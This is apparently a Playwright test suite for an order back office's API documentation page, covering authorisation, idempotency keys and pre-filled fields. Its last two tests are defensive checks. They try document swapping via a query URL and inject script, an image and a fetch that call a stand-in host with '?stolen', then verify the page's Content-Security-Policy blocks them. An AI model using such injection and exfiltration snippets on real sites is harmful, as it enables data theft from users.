"""The page is used as a person uses it, in a browser on a machine without internet."""

import json
import re
import uuid
from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from local_system.system import LocalSystem
from tests.builders import unique
from tests.documents.conftest import Open
from tests.documents.docs_page import DocsPage

ORCHESTRATION = "/orchestrator/create-and-confirm-order"


@pytest.fixture
def gateway_page(system: LocalSystem, open_page: Open) -> DocsPage:
    """Return the gateway's page, as its root leads there."""
    return open_page(system.gateway_url, "/")


def test_the_use_case_is_played_on_the_page_from_customer_to_orchestrator(
    gateway_page: DocsPage, printed_token: Callable[..., str]
) -> None:
    page = gateway_page
    page.authorise("operator", printed_token())

    customer = page.operation("post", "/customers").execute(
        {"name": "Page Ltd", "email": f"{unique('page')}@page.example"}
    )
    assert customer.status == 201
    product = page.operation("post", "/products").execute(
        {"sku": unique("PAGE"), "name": "Page", "price_cents": 1250, "stock": 10}
    )
    assert product.status == 201
    wanted = {
        "customer_id": customer.json["id"],
        "items": [{"product_id": product.json["id"], "qty": 2}],
    }
    order = page.operation("post", "/orders").execute(wanted)
    assert (order.status, order.json["status"]) == (201, "CREATED")

    confirm = page.operation("post", "/orders/{order_id}/confirm")
    confirm.field("order_id").fill(str(order.json["id"]))
    confirmed = confirm.execute()
    assert (confirmed.status, confirmed.json["status"]) == (200, "CONFIRMED")
    assert "idempotent-replayed" not in confirmed.headers
    replayed = confirm.execute()
    assert (replayed.status, replayed.body) == (200, confirmed.body)
    assert replayed.headers["idempotent-replayed"] == "true"

    orchestrate = page.operation("post", ORCHESTRATION)
    orchestrated = orchestrate.execute({**wanted, "idempotency_key": str(uuid.uuid4())})
    assert (orchestrated.status, orchestrated.json["success"]) == (201, True)
    assert orchestrated.json["data"]["order"]["status"] == "CONFIRMED"
    assert page.disturbances() == []


@pytest.mark.parametrize("service", ["customers", "orders"])
def test_each_service_has_a_page_of_its_own_calls(
    system: LocalSystem, open_page: Open, printed_token: Callable[..., str], service: str
) -> None:
    page = open_page({"customers": system.customers_url, "orders": system.orders_url}[service])
    page.authorise("operator", printed_token())

    answer = page.operation("get", f"/{service}").execute()

    assert (answer.status, list(answer.json)) == (200, ["data", "next_cursor"])
    assert page.page.title() == f"{service.capitalize()} API"
    expect(page.page.locator(f'[data-path="{ORCHESTRATION}"]')).to_have_count(0)
    assert page.disturbances() == []


def test_a_service_calls_what_is_for_services_alone(
    system: LocalSystem, open_page: Open, printed_token: Callable[..., str]
) -> None:
    page = open_page(system.customers_url)
    page.authorise("service", printed_token("--service"))

    internal = page.operation("get", "/internal/customers/{customer_id}")
    internal.field("customer_id").fill("1")

    assert internal.execute().json["id"] == 1
    assert page.disturbances() == []


def test_the_guide_is_folded_above_the_calls(gateway_page: DocsPage) -> None:
    guide = gateway_page.page.locator("details.guide")
    expect(guide.get_by_role("heading", name="Repeating a call")).to_be_hidden()

    guide.locator("summary").click()

    expect(guide.get_by_role("heading", name="Repeating a call")).to_be_visible()
    expect(guide).to_contain_text("Idempotent-Replayed: true")
    assert gateway_page.disturbances() == []


def test_without_a_token_the_page_shows_why_a_call_is_refused(gateway_page: DocsPage) -> None:
    answer = gateway_page.operation("get", "/customers").execute()

    assert (answer.status, answer.json["code"]) == (401, "UNAUTHORIZED")
    assert answer.headers["www-authenticate"] == "Bearer"


def test_an_operators_token_is_asked_for_first_and_forgotten_when_the_page_is_left(
    gateway_page: DocsPage, printed_token: Callable[..., str]
) -> None:
    page = gateway_page.page
    page.get_by_role("button", name="Authorize").first.click()
    expect(page.locator(".auth-container", has_text="operator").locator("input")).to_be_focused()

    page.keyboard.insert_text(printed_token())
    page.keyboard.press("Enter")

    expect(page.locator(".btn.authorize.locked")).to_be_visible()
    kept = page.evaluate("[localStorage.length, sessionStorage.length, document.cookie]")
    assert kept == [0, 0, ""]
    page.reload()
    expect(page.locator(".btn.authorize.unlocked")).to_be_visible()


def keys_filled_in(page: DocsPage) -> list[str]:
    orchestration = page.operation("post", ORCHESTRATION)
    confirmation = page.operation("post", "/orders/{order_id}/confirm")
    return [
        json.loads(orchestration.body.input_value())["idempotency_key"],
        confirmation.field("X-Idempotency-Key").input_value(),
    ]


def test_a_key_that_is_filled_in_is_a_new_one_on_each_visit(gateway_page: DocsPage) -> None:
    keys = keys_filled_in(gateway_page)
    gateway_page.open()
    keys += keys_filled_in(gateway_page)

    assert len(set(keys)) == 4
    assert all(str(uuid.UUID(key)) == key for key in keys)


def test_what_is_filled_in_creates_on_each_visit(
    gateway_page: DocsPage, printed_token: Callable[..., str]
) -> None:
    page = gateway_page
    for _ in range(2):
        page.authorise("operator", printed_token())
        for path in ("/customers", "/products"):
            answer = page.operation("post", path).execute()
            assert answer.status == 201, answer.body
        page.open()


def test_an_id_is_filled_in_but_not_that_of_what_is_deleted(
    gateway_page: DocsPage, printed_token: Callable[..., str]
) -> None:
    page = gateway_page
    page.authorise("operator", printed_token())

    read = page.operation("get", "/customers/{customer_id}").execute()
    deletion = page.operation("delete", "/customers/{customer_id}")

    assert (read.status, read.json["id"]) == (200, 1)
    assert deletion.field("customer_id").input_value() == ""


def test_a_correlation_id_that_is_filled_in_is_nobody_elses(gateway_page: DocsPage) -> None:
    body = json.loads(gateway_page.operation("post", ORCHESTRATION).body.input_value())

    assert re.fullmatch("page-[0-9a-f]{8}", body["correlation_id"])


@pytest.mark.parametrize(
    ("service", "schemes"),
    [("gateway", ["operator"]), ("orders", ["operator"]), ("customers", ["operator", "service"])],
)
def test_a_token_is_asked_for_only_where_it_is_needed(
    system: LocalSystem, open_page: Open, service: str, schemes: list[str]
) -> None:
    page = open_page(getattr(system, f"{service}_url")).page
    page.get_by_role("button", name="Authorize").first.click()

    names = page.locator(".auth-container h4 code").all_text_contents()

    assert names == schemes
    for scheme in schemes:
        expect(page.get_by_label(f"Token, as {scheme}")).to_have_count(1)


@pytest.mark.parametrize("before", ["Bearer ", "Authorization: bearer ", " "])
def test_a_token_may_be_pasted_with_what_stands_before_it(
    gateway_page: DocsPage, printed_token: Callable[..., str], before: str
) -> None:
    gateway_page.authorise("operator", before + printed_token())

    assert gateway_page.operation("get", "/customers").execute().status == 200


def test_what_a_refusal_looks_like_is_folded(gateway_page: DocsPage) -> None:
    order = gateway_page.operation("post", "/orders").block
    conflict = order.locator('.responses-table tr.response[data-code="409"]')
    expect(conflict).to_contain_text("INSUFFICIENT_STOCK: There is not enough stock.")
    expect(conflict.locator(".highlight-code")).to_have_count(0)

    conflict.get_by_role("button", name="Example and headers").click()

    expect(conflict.locator(".highlight-code")).to_contain_text('"available": 1')
    assert gateway_page.disturbances() == []


def test_what_may_be_left_out_is_left_out_unless_somebody_fills_it_in(
    gateway_page: DocsPage,
) -> None:
    change = gateway_page.operation("patch", "/products/{product_id}")

    assert change.field("If-Match").input_value() == ""
    assert change.field("X-Correlation-Id").input_value() == ""


def test_a_link_leads_to_an_operation(system: LocalSystem, open_page: Open) -> None:
    page = open_page(system.gateway_url)
    link = page.block("post", "/orders/{order_id}/cancel").locator("a").get_attribute("href")

    # By the root, as somebody writes it who knows the host alone.
    again = open_page(system.gateway_url, f"/{link}")

    expect(again.page.locator(".opblock.is-open")).to_have_count(1)
    cancel = again.block("post", "/orders/{order_id}/cancel")
    expect(cancel.get_by_role("button", name="Execute")).to_be_in_viewport()
    assert again.disturbances() == []


def test_an_address_cannot_make_the_page_show_another_document(
    system: LocalSystem, open_page: Open
) -> None:
    elsewhere = "https://elsewhere.example/openapi.json"

    page = open_page(system.gateway_url, f"/docs?url={elsewhere}&configUrl={elsewhere}")

    assert page.page.title() == "B2B order back office"
    assert page.disturbances() == []


def test_nothing_that_is_written_into_the_page_runs_or_is_fetched(gateway_page: DocsPage) -> None:
    gateway_page.page.evaluate(
        """async () => {
          document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>x</p><img>");
          document.querySelector("img:last-child").src = "https://elsewhere.example/?stolen";
          const script = document.createElement("script");
          script.textContent = "document.title = 'ran'";
          document.body.append(script);
          await fetch("https://elsewhere.example/?stolen").catch(() => {});
        }"""
    )

    assert gateway_page.page.title() == "B2B order back office"
    for directive in ("style-src", "script-src", "img-src", "connect-src"):
        refused = [line for line in gateway_page.watch.console if f"{directive} 'self'" in line]
        assert refused, (directive, gateway_page.watch.console)
